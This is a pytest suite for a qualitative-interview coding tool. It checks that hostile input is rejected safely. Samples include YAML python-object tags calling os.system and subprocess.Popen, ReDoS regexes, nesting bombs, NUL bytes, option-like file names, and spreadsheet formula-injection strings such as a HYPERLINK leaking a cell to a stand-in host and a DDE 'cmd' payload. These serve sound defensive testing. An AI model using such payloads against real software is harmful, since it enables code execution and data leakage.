"""Hostile and broken input: every case ends in one `Error:` line naming the file (and line),
exit code 2, no traceback, nothing executed and nothing already stored lost.

Covered: YAML object tags, catastrophic regexes (rejected at validation, bounded at tag time),
a 200 MB single-line file, NUL bytes, 10 000-deep YAML, spreadsheet formulas in a survey and
in exports, awkward file names, and the network staying untouched. (Zip/qdpx bombs are in the
exchange tests.)
"""

from __future__ import annotations

import csv
import signal
import socket
import subprocess
import sys
import threading
import time
import unicodedata
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result
from samples import SMALL_CODEBOOK, SMALL_INTERVIEW

import qcode.tag
from qcode.cli import cli
from qcode.codebook import Code, Codebook, Patterns, load_codebook
from qcode.errors import CodebookError
from qcode.ingest import read_path
from qcode.models import Segment
from qcode.store import Store

REPO = Path(__file__).resolve().parents[1]
KRONOBERG = REPO / "codebooks" / "kronoberg.yaml"

CODEBOOK = SMALL_CODEBOOK

INTERVIEW = SMALL_INTERVIEW

SENTENCE = "Vi samverkar med socialtjänsten när det gäller människohandel, men beredskapen är låg. "


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project folder (the current directory) with a codebook and one good transcript."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "cb.yaml").write_text(CODEBOOK, encoding="utf-8")
    (tmp_path / "qcode.yaml").write_text("codebook: cb.yaml\ndatabase: p.db\n", encoding="utf-8")
    (tmp_path / "good.md").write_text(INTERVIEW.format(id="polis-01"), encoding="utf-8")
    return tmp_path


def invoke(*args: str) -> Result:
    # catch_exceptions stays on: an escaping exception (a traceback for the user) shows up as
    # result.exception, which the assertions below refuse.
    return CliRunner().invoke(cli, list(args))


def assert_one_line_error(result: Result, *names: str, exit_code: int = 2) -> str:
    """Exit code, no traceback, exactly one `Error:` line that names every one of ``names``."""
    assert result.exit_code == exit_code, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, result.output
    for name in names:
        assert name in errors[0], errors[0]
    return errors[0]


def stored_documents(db: Path) -> list[str]:
    store = Store(db, create=False)
    try:
        return sorted(store.document_ids())
    finally:
        store.close()


def tag_good_first(project: Path) -> None:
    result = invoke("tag", "good.md")
    assert result.exit_code == 0, result.output
    assert stored_documents(project / "p.db") == ["polis-01"]


# -- YAML object tags --------------------------------------------------------------------------

OBJECT_TAGS = [
    'codes: !!python/object/apply:os.system ["touch {marker}"]',
    "codes: !!python/name:os.system",
    'codes: !!python/object/new:subprocess.Popen [["touch", "{marker}"]]',
]


@pytest.mark.parametrize("line", OBJECT_TAGS)
def test_codebook_with_python_object_tags_is_refused_and_never_executed(project, line):
    marker = project / "PWNED"
    (project / "evil.yaml").write_text(f"name: x\n{line.format(marker=marker)}\n", encoding="utf-8")
    validated = invoke("codebook", "validate", "evil.yaml")
    assert validated.exit_code == 2
    assert "evil.yaml:line 2: YAML tag" in validated.output and "not allowed" in validated.output
    assert_one_line_error(validated, "evil.yaml")
    tag_good_first(project)
    tagged = invoke("tag", "--codebook", "evil.yaml", "good.md")
    assert_one_line_error(tagged, "evil.yaml:2:", "not allowed in a codebook")
    with pytest.raises(CodebookError, match="python/"):
        load_codebook(project / "evil.yaml")
    assert not marker.exists()
    assert stored_documents(project / "p.db") == ["polis-01"]


def test_front_matter_with_python_object_tag_is_refused_and_never_executed(project):
    marker = project / "PWNED"
    (project / "evil.md").write_text(
        f'---\nid: x\ngroup: !!python/object/apply:os.system ["touch {marker}"]\n---\n'
        "IP: Vi har ingen handlingsplan.\n",
        encoding="utf-8",
    )
    assert_one_line_error(invoke("tag", "evil.md"), "evil.md:3:", "front matter")
    assert not marker.exists()


# -- catastrophic regexes ----------------------------------------------------------------------

CATASTROPHIC = [r"(a+)+$", r"(\w+\s?)*$", r"(a|aa)+$", r"(.*a){20}"]


def regex_codebook(pattern: str) -> str:
    quoted = pattern.replace("'", "''")
    return (
        "name: test\ncodes:\n  - id: beredskap\n    label: Beredskap\n    patterns:\n"
        f"      terms: [beredskap]\n      regex: ['{quoted}']\n"
    )


@pytest.mark.parametrize("pattern", CATASTROPHIC)
def test_catastrophic_regex_is_rejected_by_validate_and_by_tag(project, pattern):
    (project / "slow.yaml").write_text(regex_codebook(pattern), encoding="utf-8")
    validated = invoke("codebook", "validate", "slow.yaml")
    assert_one_line_error(validated, "slow.yaml")
    assert "slow.yaml:line 7, column" in validated.output
    assert "regex[0]" in validated.output and "backtrack catastrophically" in validated.output
    started = time.monotonic()
    tagged = invoke("tag", "--codebook", "slow.yaml", "good.md")
    assert time.monotonic() - started < 10
    error = assert_one_line_error(tagged, "slow.yaml")
    assert "backtrack catastrophically" in error


SLIPS_THROUGH = r"\w*\w*\w*\w*\w*\w*\w*x"  # polynomial, not nested: O(n^7) on a long word


def test_regex_that_slips_through_validation_cannot_hang_tag(project, monkeypatch):
    monkeypatch.setattr(qcode.tag, "REGEX_SECONDS", 0.2)
    (project / "slow.yaml").write_text(regex_codebook(SLIPS_THROUGH), encoding="utf-8")
    tag_good_first(project)
    (project / "long-word.md").write_text("IP: " + "a" * 400 + "\n", encoding="utf-8")
    started = time.monotonic()
    result = invoke("tag", "--codebook", "slow.yaml", "good.md", "long-word.md")
    assert time.monotonic() - started < 10
    error = assert_one_line_error(result, "slow.yaml", SLIPS_THROUGH.replace("\\", "\\\\"))
    assert "was stopped: it backtracks catastrophically" in error
    # the good transcript was re-coded with the new codebook and stored before the bad one
    assert stored_documents(project / "p.db") == ["polis-01"]
    assert signal.getsignal(signal.SIGALRM) in (signal.SIG_DFL, None)
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)


def slow_tagger() -> qcode.tag.Tagger:
    code = Code("x", "x", "X", patterns=Patterns(regex=(SLIPS_THROUGH,)))
    return qcode.tag.Tagger(Codebook("demo", "1", "sv", (code,), path="demo.yaml"))


def test_regex_time_limit_restores_the_callers_handler_and_timer(monkeypatch):
    monkeypatch.setattr(qcode.tag, "REGEX_SECONDS", 0.1)
    tagger = slow_tagger()
    fired: list[int] = []
    previous = signal.signal(signal.SIGALRM, lambda signum, frame: fired.append(signum))
    try:
        signal.setitimer(signal.ITIMER_REAL, 5.0)
        with pytest.raises(CodebookError, match=r"demo\.yaml: regex .* of code x ran longer"):
            tagger.tag_segment(Segment("d", 0, 0, 300, "IP", False, "a" * 300))
        remaining, _ = signal.getitimer(signal.ITIMER_REAL)
        assert 3.0 < remaining <= 5.0  # the caller's timer runs on
        assert tagger.tag_segment(Segment("d", 0, 0, 12, "IP", False, "ett vanligt x")) != []
        assert fired == []
        signal.setitimer(signal.ITIMER_REAL, 0.01)
        time.sleep(0.1)
        assert fired == [signal.SIGALRM]  # the caller's handler is back in place
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def test_regex_time_limit_is_skipped_outside_the_main_thread():
    """Signals only reach the main thread: elsewhere tagging runs unguarded but still works."""
    tagger = slow_tagger()
    found: list = []
    worker = threading.Thread(
        target=lambda: found.append(
            tagger.tag_segment(Segment("d", 0, 0, 9, "IP", False, "aaaaaaaax"))
        )
    )
    worker.start()
    worker.join(10)
    assert [c.code_path for c in found[0]] == ["x"]


# -- a 200 MB single-line file -----------------------------------------------------------------

RSS_PROBE = """\
import resource, sys
from qcode.cli import cli
try:
    cli.main(sys.argv[1:], prog_name="qcode")
finally:
    print(f"RSS_KB={resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}", file=sys.stdout, flush=True)
"""


def run_measured(args: list[str], cwd: Path) -> tuple[int, str, str, int]:
    """Run qcode in a fresh process; return (exit code, stdout, stderr, peak RSS in MB)."""
    done = subprocess.run(
        [sys.executable, "-c", RSS_PROBE, *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
    )
    rss_line = [line for line in done.stdout.splitlines() if line.startswith("RSS_KB=")][-1]
    return done.returncode, done.stdout, done.stderr, int(rss_line.split("=")[1]) // 1024


def write_single_line(path: Path, megabytes: float) -> None:
    chunk = (SENTENCE * 1000).encode("utf-8")
    total = int(megabytes * 1024 * 1024)
    with open(path, "wb") as handle:
        while total > 0:
            handle.write(chunk[:total])
            total -= len(chunk)


def test_200_mb_single_line_file_is_refused_with_the_way_to_override(project):
    big = project / "en rad.txt"
    write_single_line(big, 200)
    assert b"\n" not in big.read_bytes()[:1_000_000]
    code, _out, err, rss_mb = run_measured(["tag", str(big)], project)
    assert code == 2, err
    assert "Traceback" not in err
    [error] = [line for line in err.splitlines() if line.startswith("Error:")]
    assert error.startswith(f"Error: {big}: file is 200 MB, more than the 20 MB limit")
    assert "--max-file-mb" in error and "max_file_mb:" in error
    assert rss_mb < 1500, rss_mb  # refused before reading: about 100 MB of interpreter
    big.unlink()


def test_file_size_limit_can_be_raised_on_the_command_line_and_in_qcode_yaml(project):
    line = project / "rad.txt"
    write_single_line(line, 0.3)
    assert_one_line_error(
        invoke("tag", "--max-file-mb", "0.1", "rad.txt"),
        "rad.txt: file is 0.3 MB, more than the 0.1 MB limit",
    )
    result = invoke("tag", "--max-file-mb", "1", "rad.txt")
    assert result.exit_code == 0, result.output
    assert "documents: 1 tagged" in result.output
    (project / "qcode.yaml").write_text(
        "codebook: cb.yaml\ndatabase: p.db\nmax_file_mb: 0.1\n", encoding="utf-8"
    )
    assert_one_line_error(invoke("tag", "rad.txt"), "rad.txt: file is 0.3 MB")
    result = invoke("tag", "--max-file-mb", "0", "rad.txt")  # 0: no limit
    assert result.exit_code == 0, result.output
    (project / "qcode.yaml").write_text(
        "codebook: cb.yaml\nmax_file_mb: mycket\n", encoding="utf-8"
    )
    assert_one_line_error(invoke("tag", "rad.txt"), "qcode.yaml", "max_file_mb")


@pytest.mark.slow
def test_single_line_file_just_under_the_limit_is_coded_in_bounded_memory(project):
    """Why there is a limit: a line is one segment, tokenized whole. Measured peak RSS: 2 MB
    ~0.4 GB, 5 MB ~0.7 GB, 20 MB ~2.1 GB (and 23 s); 200 MB would need about 20 GB."""
    write_single_line(project / "rad.txt", 2)
    code, out, err, rss_mb = run_measured(["tag", "rad.txt"], project)
    assert code == 0, err
    assert "documents: 1 tagged" in out
    assert rss_mb < 1500, rss_mb


# -- NUL bytes ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, data",
    [
        ("nul.txt", b"IP: Vi har ingen handlingsplan.\x00\x00\x01\x02\n"),
        ("nul.md", "---\nid: n\n---\nIP: Beredskapen är låg.\n".encode() + b"\x00" * 16),
        ("nul.csv", b"id;svar\n1;Vi har ingen handlingsplan alls\x00 i kommunen\n"),
    ],
)
def test_transcript_with_nul_bytes_is_a_one_line_binary_error(project, name, data):
    tag_good_first(project)
    (project / name).write_bytes(data)
    assert_one_line_error(invoke("tag", name), f"{name}: binary file")
    assert stored_documents(project / "p.db") == ["polis-01"]


def test_nul_file_under_keep_going_fails_alone(project):
    folder = project / "t"
    folder.mkdir()
    (folder / "a.md").write_text(INTERVIEW.format(id="a"), encoding="utf-8")
    (folder / "b.txt").write_bytes(b"IP: hej\x00")
    result = invoke("tag", "--keep-going", "t")
    assert result.exit_code == 1
    assert "b.txt: binary file" in result.output
    assert stored_documents(project / "p.db") == ["a"]


# -- deeply nested YAML ------------------------------------------------------------------------


def nested_flow(depth: int = 10_000) -> str:
    return "[" * depth + "]" * depth


def nested_block(depth: int = 3_000) -> str:
    return "".join("  " * i + f"k{i}:\n" for i in range(1, depth))


@pytest.mark.parametrize(
    "metadata", [f"meta: {nested_flow()}\n", f"meta:\n{nested_block()}", "a: &a [*a]\n"]
)
def test_deeply_nested_front_matter_is_a_one_line_error(project, metadata):
    tag_good_first(project)
    (project / "deep.md").write_text(f"---\nid: deep\n{metadata}---\nIP: Hej.\n", encoding="utf-8")
    result = invoke("tag", "deep.md")
    error = assert_one_line_error(result, "deep.md:", "malformed front matter")
    assert "RecursionError" not in result.output
    assert "nested deeper than" in error or "aliases" in error
    assert stored_documents(project / "p.db") == ["polis-01"]


@pytest.mark.parametrize("body", [f"codes: {nested_flow()}\n", f"codes:\n{nested_block()}"])
def test_deeply_nested_codebook_is_a_one_line_error(project, body):
    (project / "deep.yaml").write_text(f"name: x\n{body}", encoding="utf-8")
    validated = invoke("codebook", "validate", "deep.yaml")
    assert_one_line_error(validated, "deep.yaml")
    assert "nested deeper than 50 levels" in validated.output
    tagged = invoke("tag", "--codebook", "deep.yaml", "good.md")
    assert_one_line_error(tagged, "deep.yaml:", "nested deeper than 50 levels")
    assert "RecursionError" not in tagged.output


def test_deeply_nested_qcode_yaml_is_a_one_line_error(project):
    (project / "qcode.yaml").write_text(f"private: {nested_flow()}\n", encoding="utf-8")
    assert_one_line_error(invoke("tag", "good.md"), "qcode.yaml", "nested too deeply")


# -- formulas in a survey and in exports -------------------------------------------------------

ANSWERS = {
    "r1": '=HYPERLINK("http://example.invalid/?q="&A1,"Vi saknar beredskap helt")',
    "r2": "=1+1 men vi har ingen handlingsplan alls",
    "r3": "@SUM(A1) beredskapen är låg hos oss i kommunen",
    "r4": "-2+3 handlingsplan saknas helt i vår verksamhet",
    "r5": "+cmd|' /C calc'!A0 vi samverkar aldrig med socialtjänsten",
    "r6": "Vi har en handlingsplan och god beredskap här",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def write_formula_survey(path: Path) -> None:
    """r1 is a real formula cell (Excel would compute it); r2–r5 are text a respondent typed
    that a spreadsheet would read as a formula; the group column has one too."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["id", "group", "svar"])
    for respondent, answer in ANSWERS.items():
        sheet.append([respondent, "=kommun", answer])
        row = sheet.max_row
        sheet.cell(row, 2).data_type = "s"
        if respondent != "r1":
            sheet.cell(row, 3).data_type = "s"  # typed text, stored as a string
    sheet.append(["r7", "kommun", "=1+1"])  # a formula cell with no cached value: no answer
    workbook.save(path)
    check = openpyxl.load_workbook(path)
    assert check.active["C2"].data_type == "f" and check.active["C3"].data_type == "s"


def test_survey_formulas_are_never_evaluated(project):
    write_formula_survey(project / "survey.xlsx")
    docs = {doc.id: doc for doc in read_path(project / "survey.xlsx")}
    # openpyxl reads cached values only: the formula cells carry none, so r1 and r7 have no
    # answer text at all (never "2", never the link); typed text stays exactly as typed
    assert sorted(docs) == ["r2", "r3", "r4", "r5", "r6"]
    for respondent in ("r2", "r3", "r4", "r5"):
        assert docs[respondent].text == ANSWERS[respondent]
    assert docs["r2"].metadata["group"] == "=kommun"


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_tag_exports_escape_formula_like_cells(project, suffix):
    write_formula_survey(project / "survey.xlsx")
    result = invoke("tag", "survey.xlsx", "-o", f"out.{suffix}")
    assert result.exit_code == 0, result.output
    if suffix == "xlsx":
        sheet = openpyxl.load_workbook(project / "out.xlsx").active
        rows = [[cell for cell in row] for row in sheet.iter_rows()]
        assert all(cell.data_type != "f" for row in rows for cell in row)
        values = [[cell.value for cell in row] for row in rows]
    else:
        with open(project / "out.csv", encoding="utf-8", newline="") as handle:
            values = list(csv.reader(handle))
    header, body = values[0], values[1:]
    texts = {row[header.index("document")]: row[header.index("text")] for row in body}
    assert texts["r2"] == "'" + ANSWERS["r2"]
    assert texts["r3"] == "'" + ANSWERS["r3"]
    assert texts["r4"] == "'" + ANSWERS["r4"]
    assert texts["r5"] == "'" + ANSWERS["r5"]
    assert texts["r6"] == ANSWERS["r6"]
    assert {row[header.index("group")] for row in body} == {"'=kommun"}
    for row in body:
        for value in row:
            if isinstance(value, str) and value:
                assert not value.startswith(FORMULA_START), value


# -- awkward file names ------------------------------------------------------------------------

AWKWARD_NAMES = [
    "intervju med mellanslag.md",
    "förskola åäö ÅÄÖ.md",
    "emoji 🙂 intervju.md",
    "Ove\u0301 kombinerande.md",  # e + combining acute accent (NFD, as macOS writes names)
    "-rf.md",
    "--help.md",
]


def expected_id(name: str) -> str:
    return unicodedata.normalize("NFC", Path(name).stem)


@pytest.mark.parametrize("name", AWKWARD_NAMES)
def test_awkward_file_names_as_paths(project, name):
    text = INTERVIEW.replace("id: {id}\n", "")
    (project / name).write_text(text, encoding="utf-8")
    result = invoke("tag", "--", name) if name.startswith("-") else invoke("tag", name)
    assert result.exit_code == 0, result.output
    assert "documents: 1 tagged" in result.output
    assert stored_documents(project / "p.db") == [expected_id(name)]
    result = invoke("tag", f"./{name}")  # the other way past option parsing
    assert result.exit_code == 0 and "1 unchanged" in result.output, result.output


def test_awkward_file_and_folder_names_in_a_folder_and_in_outputs(project):
    folder = project / "-mapp med åäö 🙂"
    (folder / "under mapp e\u0301").mkdir(parents=True)
    for index, name in enumerate(AWKWARD_NAMES):
        target = folder if index % 2 else folder / "under mapp e\u0301"
        (target / name).write_text(INTERVIEW.replace("{id}", f"d{index}"), encoding="utf-8")
    (folder / "-binär 🙂.txt").write_bytes(b"IP: hej\x00")
    output = "ut data/-resultat åäö 🙂.csv"
    result = invoke("tag", "--keep-going", "-o", output, "--", folder.name)
    assert result.exit_code == 1, result.output
    assert "-binär 🙂.txt: binary file" in result.output
    assert stored_documents(project / "p.db") == [f"d{i}" for i in range(len(AWKWARD_NAMES))]
    with open(project / output, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["document"] for row in rows} == {f"d{i}" for i in range(len(AWKWARD_NAMES))}
    assert_one_line_error(invoke("tag", "--", "-saknas åäö.md"), "-saknas åäö.md")


# -- the network -------------------------------------------------------------------------------


@pytest.mark.filterwarnings("ignore:A test tried to use socket:UserWarning")
def test_the_suite_runs_with_sockets_blocked():
    from pytest_socket import SocketBlockedError

    with pytest.raises(SocketBlockedError):
        socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    with pytest.raises(SocketBlockedError):
        socket.create_connection(("example.invalid", 80), timeout=1)


def test_tag_and_reports_never_reach_for_the_network(project, monkeypatch):
    calls: list[str] = []

    def refuse(name: str):
        def called(*args, **kwargs):
            calls.append(name)
            raise AssertionError(f"qcode called socket.{name}{args}")

        return called

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse(name))
    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, refuse(name))
    (project / "qcode.yaml").write_text(
        f"codebook: {KRONOBERG}\ndatabase: p.db\nprivate: [Anna Svensson]\n", encoding="utf-8"
    )
    folder = project / "t"
    folder.mkdir()
    for index in range(3):
        (folder / f"polis-{index}.md").write_text(
            INTERVIEW.format(id=f"polis-{index}") + "\nIP: Anna Svensson på socialtjänsten "
            "ringde oss om en flicka som tvingades sälja sex, och vi tog det på allvar.\n",
            encoding="utf-8",
        )
    steps = [
        ["tag", "t", "-o", "out/codings.csv"],
        ["report", "frequencies", "--by", "group", "-o", "out/freq.md"],
        ["report", "cooccurrence", "-o", "out/co.csv"],
        ["quotes", "-o", "out/quotes.md"],
        ["export", "codings", "-o", "out/all.xlsx"],
        ["check-privacy", "out"],
    ]
    for args in steps:
        result = invoke(*args)
        assert result.exit_code == 0, (args, result.output)
    assert calls == []
    assert (project / "out" / "quotes.md").exists()
